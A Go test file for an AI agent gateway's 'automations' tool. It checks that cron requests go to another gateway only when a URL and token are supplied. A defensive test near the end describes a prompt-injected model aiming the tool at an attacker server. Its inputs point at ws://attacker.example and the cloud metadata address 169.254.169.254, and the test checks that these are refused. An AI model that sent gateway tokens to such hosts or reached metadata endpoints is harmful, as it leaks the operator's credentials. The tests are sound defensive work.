package automations

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/openclaw-go/openclaw/tools"
)

// fakeDialer records the connections the tool opens and the calls on them.
type fakeDialer struct {
	dials []string // url + " " + token
	calls []string // method + " " + params
	fail  error
}

func (d *fakeDialer) DialGateway(_ context.Context, url, token string) (tools.GatewayConn, error) {
	d.dials = append(d.dials, url+" "+token)
	if d.fail != nil {
		return nil, d.fail
	}
	return fakeConn{d}, nil
}

type fakeConn struct{ d *fakeDialer }

func (c fakeConn) Call(_ context.Context, method string, params, out any) error {
	b, _ := json.Marshal(params)
	c.d.calls = append(c.d.calls, method+" "+string(b))
	if p, ok := out.(*json.RawMessage); ok {
		*p = json.RawMessage(`{"jobs":[{"id":"remote-1"}],"ok":true,"id":"remote-1","runId":"r1","ran":true}`)
	}
	return nil
}

func (fakeConn) Close() error { return nil }

func TestAutomationsOnAnotherGateway(t *testing.T) {
	const url, tok = "ws://10.0.0.5:18789", "their-token"
	tests := []struct {
		name string
		args string
		call string // the RPC the other gateway gets
		err  string
	}{
		{name: "list", args: `{"action":"list","includeDisabled":true}`, call: `cron.list {"includeDisabled":true}`},
		{name: "add", args: `{"action":"add","job":{"name":"x","schedule":{"kind":"every","everyMs":60000},"payload":{"kind":"systemEvent","text":"hi"}}}`,
			call: `cron.add {"name":"x","payload":{"kind":"systemEvent","text":"hi"},"schedule":{"everyMs":60000,"kind":"every"}}`},
		{name: "update", args: `{"action":"update","id":"j1","patch":{"enabled":false}}`, call: `cron.update {"id":"j1","patch":{"enabled":false}}`},
		{name: "remove", args: `{"action":"remove","jobId":"j1"}`, call: `cron.remove {"id":"j1"}`},
		{name: "run", args: `{"action":"run","id":"j1"}`, call: `cron.run {"id":"j1","mode":"force"}`},
		{name: "runs", args: `{"action":"runs","limit":5}`, call: `cron.runs {"limit":5}`},
		{name: "wake", args: `{"action":"wake","text":"ping"}`, call: `wake {"mode":"now","text":"ping"}`},
		{name: "status", args: `{"action":"status"}`, call: `cron.status {}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			local, d := &fakeScheduler{}, &fakeDialer{}
			var args map[string]any
			json.Unmarshal([]byte(tt.args), &args)
			args["gatewayUrl"], args["gatewayToken"], args["timeoutMs"] = url, tok, 5000
			raw, _ := json.Marshal(args)
			res, err := New(local, d).Call(context.Background(), tools.Call{Name: "automations", Args: raw, Who: caller})
			if err != nil {
				t.Fatal(err)
			}
			if len(d.dials) != 1 || d.dials[0] != url+" "+tok {
				t.Fatalf("dials %v", d.dials)
			}
			if len(d.calls) != 1 || d.calls[0] != tt.call {
				t.Fatalf("calls %v, want %q", d.calls, tt.call)
			}
			if len(local.calls) != 0 {
				t.Fatalf("this gateway's scheduler was used too: %v", local.calls)
			}
			if res.Text == "" {
				t.Fatal("empty answer")
			}
		})
	}
}

// A prompt-injected model points the tool at its own server: without a
// token of its own the call never connects, so this gateway's token
// cannot be sent there.
func TestAutomationsOverrideNeedsItsOwnToken(t *testing.T) {
	for _, args := range []string{
		`{"action":"list","gatewayUrl":"ws://attacker.example:18789"}`,
		`{"action":"list","gatewayUrl":"http://169.254.169.254/","gatewayToken":"x"}`,
		`{"action":"list","gatewayToken":"x"}`,
	} {
		local, d := &fakeScheduler{}, &fakeDialer{}
		if _, err := New(local, d).Call(context.Background(), tools.Call{Name: "automations", Args: json.RawMessage(args), Who: caller}); err == nil {
			t.Errorf("%s: accepted", args)
		}
		if len(d.dials) != 0 || len(local.calls) != 0 {
			t.Errorf("%s: dialed %v, local calls %v", args, d.dials, local.calls)
		}
	}
	// No dialer wired: an override is refused, never run locally.
	local := &fakeScheduler{}
	_, err := New(local, nil).Call(context.Background(), tools.Call{Name: "automations", Args: json.RawMessage(`{"action":"list","gatewayUrl":"ws://h:1","gatewayToken":"t"}`), Who: caller})
	if err == nil || !strings.Contains(err.Error(), "cannot reach other gateways") || len(local.calls) != 0 {
		t.Fatalf("err %v, local calls %v", err, local.calls)
	}
	// A refused connection is an error, not a local fallback.
	d := &fakeDialer{fail: errors.New("connect to the gateway at ws://h:1: AUTH_TOKEN_MISMATCH")}
	_, err = New(local, d).Call(context.Background(), tools.Call{Name: "automations", Args: json.RawMessage(`{"action":"list","gatewayUrl":"ws://h:1","gatewayToken":"t"}`), Who: caller})
	if err == nil || len(local.calls) != 0 {
		t.Fatalf("err %v, local calls %v", err, local.calls)
	}
}
